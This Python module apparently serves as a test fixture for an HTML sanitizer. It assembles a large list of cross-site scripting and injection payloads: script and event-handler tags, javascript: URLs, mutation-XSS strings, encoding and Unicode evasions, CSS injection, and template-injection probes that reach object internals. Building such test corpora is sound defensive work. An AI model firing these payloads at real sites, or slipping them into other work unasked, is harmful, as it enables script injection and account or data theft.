"""Texts that would do something on a page if one of their characters were let through."""

from itertools import product

# What runs, and what would carry it.
RUNS = "alert(1)"
ELSEWHERE = "http://a.invalid/x"

TAGS = (
    f"<script>{RUNS}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<SCRIPT>{RUNS}</SCRIPT>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"<script/x>{RUNS}</script>",
    f"<script\n>{RUNS}</script\n>",
    f"<script type=module>{RUNS}</script>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUNS} /></svg>",
    f"<svg onload={RUNS}>",
    f"<svg/onload={RUNS}//",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUNS} attributename=x>",
    f"<svg><a xlink:href=javascript:{RUNS}><text y=9>x</text></a></svg>",
    f"<svg><use href={ELSEWHERE}#a></svg>",
    f"<svg><image href={ELSEWHERE}></svg>",
    f"<svg><foreignObject><iframe onload={RUNS}></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUNS}>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}></style></mglyph></table></mtext></math>",
    f"<img src=x onerror={RUNS}>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset={ELSEWHERE}>",
    f"<img src='x' onerror='{RUNS}'>",
    f'<img src="x" onerror="{RUNS}">',
    f"<img/src=x/onerror={RUNS}>",
    f"<img src=x onerror\n=\n{RUNS}>",
    "<img src=x:x onerror=&#97;lert(1)>",
    f"<image src=x onerror={RUNS}>",
    f"<picture><source srcset={ELSEWHERE}><img></picture>",
    f"<input autofocus onfocus={RUNS}>",
    f"<input type=image src={ELSEWHERE}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<textarea autofocus onfocus={RUNS}>",
    f"<button autofocus onfocus={RUNS}>x",
    f"<body onload={RUNS}>",
    f"<body background={ELSEWHERE}>",
    f"<body onpageshow={RUNS}>",
    f"<html onclick={RUNS}>",
    f"<iframe src=javascript:{RUNS}>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<iframe onload={RUNS}></iframe>",
    f"<frameset onload={RUNS}>",
    f"<object data=javascript:{RUNS}></object>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<embed src=data:text/html,<script>{RUNS}</script>>",
    f"<video src=x onerror={RUNS}></video>",
    f"<video poster={ELSEWHERE}></video>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src=x onerror={RUNS}></audio>",
    f"<audio src={ELSEWHERE} autoplay></audio>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<meter onmouseover={RUNS}>x</meter>",
    f"<dialog open onclose={RUNS}>x</dialog>",
    f"<a href=javascript:{RUNS}>x</a>",
    f"<a href='java\tscript:{RUNS}'>x</a>",
    f"<a href=&#106;avascript:{RUNS}>x</a>",
    f"<a href=data:text/html,<script>{RUNS}</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    f"<a ping={ELSEWHERE} href=#>x</a>",
    f"<area href=javascript:{RUNS}>",
    f"<form action=javascript:{RUNS}><input type=submit>",
    f"<form action={ELSEWHERE}><button>x",
    f"<isindex action=javascript:{RUNS}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<link rel=icon href={ELSEWHERE}>",
    f"<link rel=preload as=script href={ELSEWHERE}>",
    "<link rel=dns-prefetch href=//a.invalid>",
    f"<link rel=preconnect href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    "<meta http-equiv=refresh content=1>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta http-equiv=set-cookie content=a=1>",
    f"<base href={ELSEWHERE}/>",
    "<base target=_blank>",
    f"<style>@import url({ELSEWHERE});</style>",
    "<style>*{display:none}</style>",
    f"<style>td{{background:url({ELSEWHERE})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({ELSEWHERE})}}*{{font-family:x}}</style>",
    f"<b style=background:url({ELSEWHERE})>x</b>",
    "<b style=position:fixed;inset:0;background:red>x</b>",
    f"<div style='width:expression({RUNS})'>x</div>",
    f"<x onclick={RUNS}>x</x>",
    f"<x contenteditable onfocus={RUNS} tabindex=0 autofocus>x",
    f"<template><script>{RUNS}</script></template>",
    f"<template shadowrootmode=open><script>{RUNS}</script></template>",
    f"<portal src={ELSEWHERE}>",
    f"<applet code={ELSEWHERE}>",
    f"<bgsound src={ELSEWHERE}>",
    f"<layer src={ELSEWHERE}>",
    f"<track src={ELSEWHERE}>",
    f"<table background={ELSEWHERE}>",
    f"<td background={ELSEWHERE}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUNS}>'>",
    f"<listing>&lt;img src=x onerror={RUNS}&gt;</listing>",
    f"<plaintext>{RUNS}",
    f"<xss id=x style=animation-name:x onanimationstart={RUNS}>",
    f"<?xml-stylesheet href='{ELSEWHERE}'?>",
    f"<!--[if IE]><script>{RUNS}</script><![endif]-->",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"<!DOCTYPE html [<!ENTITY x SYSTEM '{ELSEWHERE}'>]>&x;",
    f"<!--><script>{RUNS}</script>",
    f"<!-- --!><script>{RUNS}</script>",
    "<a id=title1>x</a>",
    "<form id=x><input name=attributes>",
)  # fmt: skip

# How a text could leave the place that it stands in.
WAYS_OUT = (
    *('"', "'", "`", ">", "'>", '">', "\">'>", "</td>", "</th>", "</p>", "</li></ol></section>", "</title>", "</style>", "</caption>"),
    *("</table>", "</main></body>", "-->", "--!>", "*/", "]]>", "}}", "%}", "#}", "\\\"", "&quot;>", "&#34;>", "&gt;", "/>", "\n\n", "\\u003e"),
)  # fmt: skip
CARRIED = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<img src={ELSEWHERE}>",
    f" onmouseover={RUNS} x=",
)

ATTRIBUTES = tuple(
    f"{quote} {event}={RUNS} {tail}"
    for quote, (event, tail) in product(
        ('"', "'", ""),
        (("onload", "x="), ("onfocus", "autofocus tabindex=0 x="), ("onanimationstart", "style=animation:x"), ("onclick", "//"), ("ontoggle", "open ")),
    )
)  # fmt: skip

ENTITIES = (
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;"),
    *("&#x3C;img src=x onerror=alert(1)&#x3E;", "&#0000060script&#0000062", "&ltscript&gt", "&amp;lt;script&amp;gt;", "&lt", "&#", "&#x", "&#99999999;"),
    *("&#0;", "&#x80;", "&#xD800;", "&NotEqualTilde;", "&notit;", "&nbsp;", "&copy=1", "&Tab;", "&NewLine;", "&colon;", "&lpar;", "&zwnj;"),
    *("%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-alert(1)", "¼script¾alert(1)"),
)  # fmt: skip

TEMPLATES = (
    *("{{7*7}}", "{{ book }}", "{{''.__class__.__mro__}}", "{% raw %}", "{% endraw %}", "{% for x in y %}", "{%- set x = 1 -%}", "{# x #}", "{{", "}}", "{%", "%}"),
    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php echo 1 ?>", "@{7*7}", "*{7*7}", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}"),
    *("[[${7*7}]]", "{php}x{/php}", "{0}", "{name}", "%s", "%(x)s", "$x", "$(alert)", "`${alert(1)}`"),
)  # fmt: skip

ODD_CHARACTERS = (
    *("＜script＞alert(1)＜/script＞", "‹script›", "〈script〉", "ʺ onload=alert(1)", "\u2028<script>alert(1)</script>", "<\u200bscript>alert(1)</script>"),
    *("<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>", "<script\x0b>alert(1)</script>", "\x1b]0;x\x07<script>alert(1)</script>", "<img\x0csrc=x\x0conerror=alert(1)>"),
    *("\ufeff<script>alert(1)</script>", "\u202e>tpircs/<)1(trela>tpircs<", "<scrıpt>alert(1)</scrıpt>", "<ſcript>alert(1)</ſcript>", "<ſvg onload=alert(1)>"),
    *("\ud83c<script>alert(1)</script>", "\udf00", "\uffff<b>", "\ufdd0<b>", "e\u0301<b>", "🏳️‍🌈<b>x", "𝐬<b>", "\x7f<b>", "\x85<b>", "\xad<b>"),
    *("\r\n<script>alert(1)</script>", "\r<b>x</b>", "\t<b>\tx</b>", "   <b>   x   </b>   ", "\xa0<b>\xa0x</b>"),
)  # fmt: skip

STYLES = (
    *("red;}*{display:none}", "expression(alert(1))", f"url({ELSEWHERE})", f"@import '{ELSEWHERE}'", "</style><script>alert(1)</script>", "/*", "*/}body{display:none}"),
    *("\\3c script\\3e ", "behavior:url(x)", "-moz-binding:url(x)", "position:fixed", ":root{--x:1}", "content:attr(x)"),
)  # fmt: skip

ADDRESSES = tuple(
    f"{scheme}{rest}"
    for scheme, rest in product(
        ("javascript:", "JaVaScRiPt:", " javascript:", "java\nscript:", "data:text/html,", "vbscript:", "blob:", "file:///", "//a.invalid/", "http://a.invalid/"),
        (RUNS, f"<script>{RUNS}</script>", "%0aalert(1)"),
    )
)  # fmt: skip

MUTATING = (
    f'<svg></p><style><a id="</style><img src=x onerror={RUNS}>">',
    f'<svg><p><style><g title="</style><img src=x onerror={RUNS}>">',
    f'<math><mi//xlink:href="data:x,<script>{RUNS}</script>">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUNS} src>">',
    f"<table><td><a><table><script>{RUNS}</script>",
    f"<select><style></select><img src=x onerror={RUNS}></style>",
    f'<noembed><img title="</noembed><img src=x onerror={RUNS}>"></noembed>',
    f"<b><p></b><img src=x onerror={RUNS}></p>",
    f"<a><b></a><script>{RUNS}</script></b>",
    f"<title><a title='</title><img src=x onerror={RUNS}>'>",
    f"<p title='`'><img src=x onerror={RUNS}>`",
    f"<img alt=``onerror={RUNS} src=x>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *TAGS, *(f"{way}{what}" for way, what in product(WAYS_OUT, CARRIED)), *ATTRIBUTES, *ENTITIES, *TEMPLATES,
            *ODD_CHARACTERS, *STYLES, *ADDRESSES, *MUTATING,
        )
    )
)  # fmt: skip
